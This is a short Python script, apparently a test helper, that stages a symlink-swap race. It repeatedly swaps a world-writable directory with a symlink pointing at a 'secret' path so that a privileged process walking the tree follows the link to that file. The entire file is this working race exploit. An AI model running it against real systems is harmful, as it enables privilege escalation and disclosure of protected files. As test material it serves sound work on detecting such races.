import os
import select
import sys

top, secret = sys.argv[1:]
os.chdir(top)
for name in ("tree", "tree/d"):
    os.mkdir(name)
    os.chmod(name, 0o777)
with open("tree/d/public", "w") as file:
    file.write("harmless\n")
os.symlink(secret, "link")
print("racing", flush=True)
for turn in range(2_000_000):
    os.rename("tree/d", "directory")
    os.rename("link", "tree/d")
    os.rename("tree/d", "link")
    os.rename("directory", "tree/d")
    if turn % 1000 == 0 and select.select([0], [], [], 0)[0]:
        break
